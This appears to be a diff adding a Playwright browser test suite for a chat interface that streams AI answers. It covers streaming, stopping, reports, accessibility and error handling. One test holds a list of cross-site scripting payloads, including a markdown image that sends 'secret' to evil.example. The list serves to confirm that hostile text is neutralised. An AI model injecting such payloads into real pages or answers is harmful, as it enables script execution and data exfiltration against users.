@@ -1,0 +1,240 @@
+"""The page in the system's Chromium: what a visitor sees and does."""
+
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.conftest import missing_part
+from tests.serve.conftest import ScriptedEngine, Served, WordModerator, eventually
+
+CHROMIUM = Path("/usr/bin/chromium")
+FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"]
+SLOW = [f"Sentence {i}. " for i in range(200)]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[object]:
+    if not CHROMIUM.exists():
+        missing_part("needs Chromium at /usr/bin/chromium (apt-get install chromium)")
+    sync_api = pytest.importorskip("playwright.sync_api")
+    with sync_api.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def visit(browser: object, start: Callable[..., Served]) -> Iterator[Callable[..., object]]:
+    """`visit(engine)` serves it and opens the page with the terms accepted; scripts' errors fail the test."""
+    contexts, errors, foreign = [], [], []
+
+    def open_page(engine: ScriptedEngine | None = None, accept: bool = True, **options: object) -> object:
+        served = start(engine, **options)
+        context = browser.new_context(viewport={"width": 390, "height": 844})
+        contexts.append(context)
+        page = context.new_page()
+        page.set_default_timeout(10_000)
+        page.served = served
+        page.on("pageerror", lambda error: errors.append(str(error)))
+        page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
+        page.on("request", lambda r: foreign.append(r.url) if not r.url.startswith(served.url) else None)
+        page.goto(served.url)
+        if accept:
+            page.get_by_role("button", name="I accept").click()
+            page.get_by_label("Your message").wait_for()
+        return page
+
+    yield open_page
+    for context in contexts:
+        context.close()
+    assert errors == []
+    assert foreign == []
+
+
+def ask(page: object, text: str = "Say hello") -> None:
+    page.get_by_label("Your message").fill(text)
+    page.keyboard.press("Enter")
+
+
+def finished(page: object, number: int = 1) -> object:
+    answer = page.locator(".answer").nth(number - 1)
+    answer.locator("footer").wait_for()
+    return answer
+
+
+def test_terms_question_answer_and_note(visit: Callable[..., object]) -> None:
+    page = visit(ScriptedEngine(["Hello **there**. ", "Bye."]), accept=False)
+    assert page.get_by_label("Your message").count() == 0
+    page.get_by_role("button", name="I accept").click()
+    assert page.locator(".example").count() == 4
+    ask(page)
+    answer = finished(page)
+    assert answer.locator(".prose").inner_html() == "<div><p>Hello <strong>there</strong>. Bye.</p></div>"
+    assert "Watermarked" in answer.locator(".note").inner_text()
+    assert page.locator(".question").inner_text() == "Say hello"
+    assert page.get_by_label("Your message").input_value() == ""
+
+
+def test_example_asks_itself(visit: Callable[..., object]) -> None:
+    page = visit()
+    page.locator(".example").first.click()
+    finished(page)
+    assert page.locator("#welcome").is_hidden()
+    page.get_by_role("button", name="New chat").click()
+    assert page.locator("#welcome").is_visible()
+    assert page.locator(".turn").count() == 0
+
+
+def test_answer_streams_and_stop_frees_the_engine(visit: Callable[..., object]) -> None:
+    engine = ScriptedEngine(SLOW, 0.02)
+    page = visit(engine, moderating=WordModerator())
+    ask(page)
+    page.get_by_text("Sentence 2.").wait_for()
+    assert page.locator(".answer footer").is_hidden()
+    page.get_by_role("button", name="Stop").click()
+    answer = finished(page)
+    assert answer.locator(".note").inner_text() == "Stopped"
+    assert "Sentence 2." in answer.inner_text()
+    assert eventually(lambda: engine.num_freed_early == 1)
+    made = engine.num_made
+    assert made < len(SLOW)
+    page.wait_for_timeout(100)
+    assert engine.num_made == made
+    assert page.get_by_role("button", name="Send").is_visible()
+
+
+def test_reload_keeps_the_conversation_even_in_mid_answer(visit: Callable[..., object]) -> None:
+    engine = ScriptedEngine(["One *two*. ", *SLOW], 0.02)
+    page = visit(engine)
+    ask(page, "Count")
+    page.get_by_text("Sentence 1.").wait_for()
+    page.reload()
+    answer = finished(page)
+    assert page.locator(".question").inner_text() == "Count"
+    assert answer.locator("em").inner_text() == "two"
+    assert answer.locator(".note").inner_text() == "Stopped"
+    assert eventually(lambda: engine.num_freed_early == 1)
+
+
+def test_regenerate_replaces_the_answer(visit: Callable[..., object]) -> None:
+    engine = ScriptedEngine(["First."])
+    page = visit(engine)
+    ask(page)
+    finished(page)
+    engine.pieces = ["Second."]
+    page.get_by_role("button", name="Regenerate").click()
+    page.get_by_text("Second.").wait_for()
+    assert page.locator(".answer").count() == 1
+    assert engine.requests[0].prompt == engine.requests[1].prompt
+
+
+def test_report_with_and_without_consent(visit: Callable[..., object]) -> None:
+    page = visit(ScriptedEngine(["An answer."]))
+    ask(page, "A question")
+    finished(page)
+    for consent in (False, True):
+        page.get_by_role("button", name="Report").click()
+        page.get_by_label("Wrong or misleading").check()
+        page.get_by_label("Details").fill("It is not so")
+        page.get_by_label("Include the conversation").set_checked(consent)
+        page.get_by_role("button", name="Send report").click()
+        page.get_by_role("dialog").wait_for(state="hidden")
+    without, with_consent = page.served.store.reports()
+    assert (without.reason, without.details, without.transcript) == ("wrong", "It is not so", None)
+    assert with_consent.transcript == [
+        {"role": "user", "content": "A question"},
+        {"role": "assistant", "content": "An answer."},
+    ]
+    assert "Reported, number 2" in page.locator(".note").inner_text()
+
+
+ATTACKS = [
+    "<script>window.hit=1</script>",
+    '<img src=x onerror="window.hit=1">',
+    "[click](javascript:window.hit=1)",
+    '<a href="javascript:window.hit=1">click</a>',
+    "![i](https://evil.example/?q=secret)",
+    "```x\" onmouseover=\"window.hit=1\n</code></pre><script>window.hit=1</script>\n```",
+    "<svg onload=window.hit=1><style>body{display:none}</style>",
+    '"><iframe srcdoc="<script>parent.hit=1</script>">',
+]
+
+
+def test_hostile_text_is_inert_in_question_and_answer(visit: Callable[..., object]) -> None:
+    attack = "\n\n".join(ATTACKS)
+    page = visit(ScriptedEngine(list(attack)))
+    ask(page, attack)
+    answer = finished(page)
+    for element in answer.locator("a").all():
+        assert element.get_attribute("href") is None or element.get_attribute("href").startswith("http")
+    assert page.locator(".turn :is(script, img, iframe, style, svg:not(.icon))").count() == 0
+    assert page.locator(".question .said").inner_text() == attack
+    page.reload()
+    finished(page)
+    for link in page.locator(".prose a").all():
+        link.click(force=True, no_wait_after=True) if not link.get_attribute("href") else None
+    assert page.evaluate("window.hit") is None
+
+
+def test_errors_are_shown_and_the_page_goes_on(visit: Callable[..., object]) -> None:
+    engine = ScriptedEngine(["Half. ", "Rest."])
+    page = visit(engine, moderating=WordModerator())
+    ask(page, "a forbidden thing")
+    assert "content filter" in finished(page).locator(".problem").inner_text()
+    engine.failure = RuntimeError("inside")
+    ask(page)
+    assert "failed" in finished(page, 2).locator(".problem").inner_text()
+    engine.failure = None
+    ask(page)
+    assert "Half. Rest." in finished(page, 3).inner_text()
+    page.route("**/chat", lambda route: route.abort())
+    ask(page)
+    assert "cannot be reached" in finished(page, 4).locator(".problem").inner_text()
+
+
+def test_keyboard_alone_is_enough(visit: Callable[..., object]) -> None:
+    engine = ScriptedEngine(["Hello."])
+    page = visit(engine, accept=False)
+    page.get_by_role("button", name="I accept").focus()
+    page.keyboard.press("Enter")
+    page.get_by_label("Your message").wait_for()
+    page.keyboard.type("one")
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("two")
+    page.keyboard.press("Enter")
+    finished(page)
+    assert "one\ntwo" in engine.requests[0].prompt
+    assert page.evaluate("document.activeElement.id") == "question"
+    engine.pieces, engine.pause_seconds = SLOW, 0.02
+    ask(page)
+    page.get_by_text("Sentence 1.").wait_for()
+    page.keyboard.press("Escape")
+    assert finished(page, 2).locator(".note").inner_text() == "Stopped"
+
+
+def test_screen_reader_hears_each_sentence_once(visit: Callable[..., object]) -> None:
+    page = visit(ScriptedEngine(["One. ", "Two. ", *SLOW], 0.02), moderating=WordModerator())
+    assert page.get_by_role("log").get_attribute("aria-live") == "polite"
+    ask(page)
+    page.get_by_text("Two.").first.wait_for()
+    # The visible text is silent while it changes; the sentences are spoken as they are added beside it.
+    assert page.locator(".prose").get_attribute("aria-live") == "off"
+    spoken = [span.inner_text().strip() for span in page.locator(".spoken span").all()]
+    assert spoken[:2] == ["One.", "Two."]
+    assert len(set(spoken)) == len(spoken)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_axe_finds_nothing(visit: Callable[..., object], scheme: str) -> None:
+    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs axe-playwright-python").Axe()
+    page = visit(ScriptedEngine(["# Title\n\n- a\n- [b](https://example.org)\n\n```py\nx = 1  # one\n```\n"]))
+    page.emulate_media(color_scheme=scheme)
+    assert axe.run(page).violations_count == 0
+    ask(page)
+    finished(page)
+    assert axe.run(page).violations_count == 0
+    page.get_by_role("button", name="Report").click()
+    assert axe.run(page).violations_count == 0
+    page.goto(f"{page.served.url}/terms")
+    assert axe.run(page).violations_count == 0
